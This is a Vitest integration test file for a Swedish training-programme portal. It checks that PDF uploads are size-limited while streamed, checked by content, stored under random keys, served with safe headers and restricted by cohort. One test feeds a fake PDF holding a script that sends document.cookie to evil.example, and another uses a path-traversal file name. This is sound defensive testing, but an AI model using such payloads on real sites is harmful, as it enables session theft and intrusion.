/**
 * Session material over HTTP against the built server: the upload is read as
 * a stream, refused early when too large, checked by its content, stored
 * outside the web root under a random key, and served only to those who may
 * read the session, with headers that keep the browser from guessing.
 */
import fs from "node:fs";
import http from "node:http";
import v8 from "node:v8";
import vm from "node:vm";
import { afterEach, describe, expect, it } from "vitest";
import { createEnrolment, createParticipant, createUser } from "../../db/seed/factories";
import { DEMO_PASSWORD } from "../../db/seed/demo";
import { demoPdf } from "../../db/seed/material-demo";
import { form, startTestServer, type TestServer } from "../support/http";

const LEAD = "programledare@programportalen.test";
const TRAINEE = "deltagare@programportalen.test";

let server: TestServer | null = null;
afterEach(async () => {
  await server?.close();
  server = null;
});

async function fresh() {
  server = await startTestServer();
  const s = server;
  const cohort = await s.db.selectFrom("cohorts").select("id").where("name", "=", "Omgång 2").executeTakeFirstOrThrow();
  const vimmerby = await s.db.selectFrom("municipalities").select("id").where("slug", "=", "vimmerby").executeTakeFirstOrThrow();
  const session = await s.db
    .selectFrom("sessions")
    .select("id")
    .where("cohort_id", "=", cohort.id)
    .where("host_municipality_id", "=", vimmerby.id)
    .orderBy("starts_at")
    .executeTakeFirstOrThrow();
  return { s, sessionId: session.id, lead: await s.login(LEAD) };
}

/** A multipart body built beforehand (so the client allocates nothing while the server's memory is measured). */
function multipart(fields: Record<string, string>, file: { name: string; type: string; bytes: Buffer }) {
  const boundary = "----materialgransen";
  const parts = Object.entries(fields).map(([k, v]) => Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`));
  const body = Buffer.concat([
    ...parts,
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`),
    file.bytes,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { method: "POST", body, headers: { "Content-Type": `multipart/form-data; boundary=${boundary}` } };
}

/**
 * Posts `size` bytes of a PDF-looking multipart upload with node:http, writing one
 * reused 64 kB chunk, so the client side of the test allocates nothing per chunk.
 */
function postLargeUpload(s: TestServer, path: string, cookie: string, size: number): Promise<{ status: number; text: string }> {
  const boundary = "----materialgransen";
  const head = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="intent"\r\n\r\nfile\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="stor.pdf"\r\nContent-Type: application/pdf\r\n\r\n`),
    demoPdf(["Stor"]),
  ]);
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  const chunk = Buffer.alloc(64 * 1024);
  return new Promise((resolve, reject) => {
    const request = http.request(`${s.baseUrl}${path}`, {
      method: "POST",
      headers: { "Content-Type": `multipart/form-data; boundary=${boundary}`, "Content-Length": head.length + size + tail.length, Cookie: cookie },
    });
    request.on("response", (response) => {
      let text = "";
      response.setEncoding("utf8");
      response.on("data", (d: string) => (text += d));
      response.on("end", () => resolve({ status: response.statusCode ?? 0, text }));
    });
    // The server may answer and close before the whole body is sent.
    request.on("error", (error: NodeJS.ErrnoException) => (error.code === "EPIPE" || error.code === "ECONNRESET" ? undefined : reject(error)));
    request.write(head);
    let sent = 0;
    const pump = () => {
      while (sent < size) {
        const part = sent + chunk.length <= size ? chunk : chunk.subarray(0, size - sent);
        sent += part.length;
        if (!request.write(part)) return void request.once("drain", pump);
      }
      request.end(tail);
    };
    pump();
  });
}

/**
 * Young-generation garbage collection on demand: each chunk that passes through
 * is garbage once written, and V8 collects it when it likes; collecting it at
 * every sample measures what the server holds, not what it has let go.
 */
v8.setFlagsFromString("--expose-gc");
const collectGarbage = vm.runInNewContext("gc") as (options?: { type: "minor" | "major"; execution: "sync" }) => void;

const materialRows = (s: TestServer, sessionId: number) => s.db.selectFrom("session_materials").selectAll().where("session_id", "=", sessionId).orderBy("id").execute();
const storedFiles = (s: TestServer) => fs.readdirSync(s.config.materialDir).sort();

describe("session material over HTTP", () => {
  it("the lead uploads a PDF that the cohort's trainee downloads, inline, with nosniff, no-store and a safe file name; removing it deletes the file", async () => {
    const { s, sessionId, lead } = await fresh();
    const pdf = demoPdf(["Programblad"]);
    const posted = await s.fetch(`/trafar/${sessionId}/material`, { ...multipart({ intent: "file", title: "" }, { name: "Program för dagen – Vimmerby.pdf", type: "application/pdf", bytes: pdf }), cookie: lead });
    expect(posted.status).toBe(302);
    const [row] = await materialRows(s, sessionId);
    expect(row).toMatchObject({ kind: "file", file_name: "Program för dagen – Vimmerby.pdf", content_type: "application/pdf", size_bytes: pdf.length });
    expect(storedFiles(s)).toContain(row.file_key);
    // Outside the web root: the static server does not know it.
    expect((await s.fetch(`/${row.file_key}`)).status).not.toBe(200);

    const trainee = await s.login(TRAINEE);
    const page = await (await s.fetch(`/trafar/${sessionId}`, { cookie: trainee })).text();
    expect(page).toContain(`href="/material/${row.id}"`);
    const download = await s.fetch(`/material/${row.id}`, { cookie: trainee });
    expect(download.status).toBe(200);
    expect(download.headers.get("content-type")).toBe("application/pdf");
    expect(download.headers.get("x-content-type-options")).toBe("nosniff");
    expect(download.headers.get("cache-control")).toBe("no-store");
    expect(download.headers.get("content-disposition")).toBe(
      `inline; filename="Program for dagen  Vimmerby.pdf"; filename*=UTF-8''Program%20f%C3%B6r%20dagen%20%E2%80%93%20Vimmerby.pdf`,
    );
    expect(Buffer.from(await download.arrayBuffer())).toEqual(pdf);

    const removed = await s.fetch(`/trafar/${sessionId}/material`, { method: "POST", body: form({ intent: "remove", materialId: String(row.id) }), cookie: lead });
    expect(removed.status).toBe(302);
    expect(storedFiles(s)).not.toContain(row.file_key);
    expect(await materialRows(s, sessionId)).toEqual([]);
    expect((await s.fetch(`/material/${row.id}`, { cookie: trainee })).status).toBe(404);
  });

  it("refuses a file with a .pdf name and HTML/JS content in Swedish, and keeps nothing", async () => {
    const { s, sessionId, lead } = await fresh();
    const before = storedFiles(s);
    const html = Buffer.from("<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>");
    const response = await s.fetch(`/trafar/${sessionId}/material?_data=${encodeURIComponent("routes/trafar.$sessionId.material._index")}`, {
      ...multipart({ intent: "file", title: "Programblad" }, { name: "Programblad.pdf", type: "application/pdf", bytes: html }),
      cookie: lead,
    });
    expect(response.status).toBe(400);
    expect(JSON.stringify(await response.json())).toMatch(/Filen är inte en PDF/);
    expect(await materialRows(s, sessionId)).toEqual([]);
    expect(storedFiles(s)).toEqual(before);
  });

  it("refuses an over-size file early in Swedish with 413 and memory flat: a declared 21 MB body before it is read, a 20 MB + 32 kB file as it passes the limit", async () => {
    const { s, sessionId, lead } = await fresh();
    const before = storedFiles(s);
    const cases = { declared: 21 * 1024 * 1024, streamed: 20 * 1024 * 1024 + 32 * 1024 };
    for (const [kind, size] of Object.entries(cases)) {
      collectGarbage({ type: "major", execution: "sync" });
      const rssBefore = process.memoryUsage().rss;
      const abBefore = process.memoryUsage().arrayBuffers;
      let peak = rssBefore;
      let abPeak = abBefore;
      const sampler = setInterval(() => {
        collectGarbage({ type: "minor", execution: "sync" });
        peak = Math.max(peak, process.memoryUsage().rss);
        abPeak = Math.max(abPeak, process.memoryUsage().arrayBuffers);
      }, 5);
      const response = await postLargeUpload(s, `/trafar/${sessionId}/material`, lead, size);
      const text = response.text;
      clearInterval(sampler);
      peak = Math.max(peak, process.memoryUsage().rss);
      expect(response.status, kind).toBe(413);
      expect(text, kind).toMatch(/(Filen|Det du skickade) är för stor/);
      // What the server holds: live array buffers (after collecting the young generation at every sample) stay a few
      // megabytes (measured 0-3) where holding the file would be 20. RSS grows with the allocator's freed pages
      // (measured 0-6 MB declared, 1-23 MB streamed), so its bound only catches a second copy on top.
      expect((abPeak - abBefore) / 1024 / 1024, `${kind}: live array buffers in MB`).toBeLessThan(8);
      expect((peak - rssBefore) / 1024 / 1024, `${kind}: RSS growth in MB`).toBeLessThan(64);
      console.log(`material upload refused (${kind}, ${(size / 1024 / 1024).toFixed(1)} MB): ${response.status}, RSS +${((peak - rssBefore) / 1024 / 1024).toFixed(1)} MB, array buffers +${((abPeak - abBefore) / 1024 / 1024).toFixed(1)} MB`);
    }
    expect(await materialRows(s, sessionId)).toEqual([]);
    expect(storedFiles(s)).toEqual(before);
  });

  it("path traversal in a file name is harmless: stored under a random key inside the folder, served under a cleaned name", async () => {
    const { s, sessionId, lead } = await fresh();
    const posted = await s.fetch(`/trafar/${sessionId}/material`, {
      ...multipart({ intent: "file", title: "" }, { name: "../../../public/evil.pdf", type: "application/pdf", bytes: demoPdf(["x"]) }),
      cookie: lead,
    });
    expect(posted.status).toBe(302);
    const [row] = await materialRows(s, sessionId);
    expect(row.file_name).toBe("evil.pdf");
    expect(row.file_key).toMatch(/^[A-Za-z0-9_-]{24}$/);
    expect(fs.existsSync("public/evil.pdf")).toBe(false);
    const download = await s.fetch(`/material/${row.id}`, { cookie: lead });
    expect(download.headers.get("content-disposition")).toBe(`inline; filename="evil.pdf"; filename*=UTF-8''evil.pdf`);
  });

  it("a trainee of another cohort, and another municipality's coordinator adding, get what a made-up id gets (404), and nothing is written", async () => {
    const { s, sessionId, lead } = await fresh();
    await s.fetch(`/trafar/${sessionId}/material`, { ...multipart({ intent: "file", title: "" }, { name: "a.pdf", type: "application/pdf", bytes: demoPdf(["a"]) }), cookie: lead });
    const [row] = await materialRows(s, sessionId);
    // A Vimmerby trainee active in Omgång 3 of the same programme, not in Omgång 2.
    const vimmerby = await s.db.selectFrom("municipalities").select("id").where("slug", "=", "vimmerby").executeTakeFirstOrThrow();
    const traineeCohort = await s.db.selectFrom("cohorts").select("id").where("name", "=", "Omgång 3").executeTakeFirstOrThrow();
    const participantId = await createParticipant(s.db, { municipalityId: vimmerby.id, firstName: "Greta", lastName: "Annanomgång" });
    await createEnrolment(s.db, { cohortId: traineeCohort.id, participantId, municipalityId: vimmerby.id, status: "active" });
    await createUser(s.db, { email: "greta@vimmerby.example", name: "Greta", password: DEMO_PASSWORD, grants: [{ role: "participant", municipalityId: vimmerby.id, participantId }] });
    const other = await s.login("greta@vimmerby.example");
    const real = await s.fetch(`/material/${row.id}`, { cookie: other });
    const madeUp = await s.fetch("/material/987654", { cookie: other });
    expect(real.status).toBe(404);
    expect((await real.text()).replace(/nonce="[^"]*"/g, "").split(String(row.id)).join("#")).toBe((await madeUp.text()).replace(/nonce="[^"]*"/g, "").split("987654").join("#"));

    const files = storedFiles(s);
    const coordinator = await s.login("samordnare.hultsfred@programportalen.test");
    const added = await s.fetch(`/trafar/${sessionId}/material`, { ...multipart({ intent: "file", title: "" }, { name: "b.pdf", type: "application/pdf", bytes: demoPdf(["b"]) }), cookie: coordinator });
    expect(added.status).toBe(404);
    expect(storedFiles(s)).toEqual(files);
    expect(await materialRows(s, sessionId)).toHaveLength(1);
  });
});
